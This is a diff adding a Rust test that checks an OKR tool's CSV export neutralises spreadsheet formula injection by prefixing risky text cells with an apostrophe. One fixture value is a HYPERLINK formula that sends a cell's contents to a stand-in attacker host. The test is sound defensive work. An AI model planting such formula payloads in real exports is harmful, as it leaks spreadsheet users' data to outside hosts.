@@ -312,6 +312,60 @@ fn csv_quotes_what_needs_quoting() {
     assert_eq!(progress, (0.2 - 0.1) / (0.3 - 0.1));
 }
 
+/// OWASP's CSV injection rule: text cells starting with `=`, `+`, `-`, `@`,
+/// a tab or a carriage return get a `'` in front, so that a spreadsheet shows
+/// them instead of running them; numbers, negative ones too, stay numbers.
+#[test]
+fn csv_text_cells_never_become_formulas() {
+    let tmp = TempDir::new("export-formula");
+    tmp.write("okr.toml", "title = \"Q\"\n");
+    let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+    let key_result = |title: &str, unit: &str| {
+        format!(
+            "[[key_results]]\ntitle = {}\nunit = {}\nstart = -5\ntarget = -1.5\ncurrent = -2\n",
+            serde_json::to_string(title).unwrap(),
+            serde_json::to_string(unit).unwrap()
+        )
+    };
+    tmp.write(
+        "okrs/2026-Q1/formula.md",
+        format!(
+            "+++\ntitle = {}\nperiod = \"2026-Q1\"\n{}{}{}{}+++\n",
+            serde_json::to_string(title).unwrap(),
+            key_result("+1 from the team", "@SUM(1+1)"),
+            key_result("-2 churned customers", "\tEUR"),
+            key_result("\rReturns", "=1+1"),
+            key_result("Plain, with = + - @ inside", "%"),
+        ),
+    );
+    let csv_text = export(&tmp.path, "csv", AS_OF).stdout;
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    let cells = |column: &str| -> Vec<String> {
+        let i = okr::export::CSV_COLUMNS
+            .iter()
+            .position(|c| *c == column)
+            .unwrap();
+        rows.iter().map(|r| r[i].to_string()).collect()
+    };
+    assert_eq!(cells("objective_title"), vec![format!("'{title}"); 4]);
+    assert_eq!(
+        cells("key_result_title"),
+        [
+            "'+1 from the team",
+            "'-2 churned customers",
+            "'\rReturns",
+            "Plain, with = + - @ inside"
+        ]
+    );
+    assert_eq!(cells("unit"), ["'@SUM(1+1)", "'\tEUR", "'=1+1", "%"]);
+    for (column, value) in [("start", -5.0), ("target", -1.5), ("current", -2.0)] {
+        for cell in cells(column) {
+            assert_eq!(cell.parse::<f64>(), Ok(value), "{column}: `{cell}`");
+        }
+    }
+}
+
 #[test]
 fn export_refuses_a_repository_with_errors() {
     let refused = run(okr()
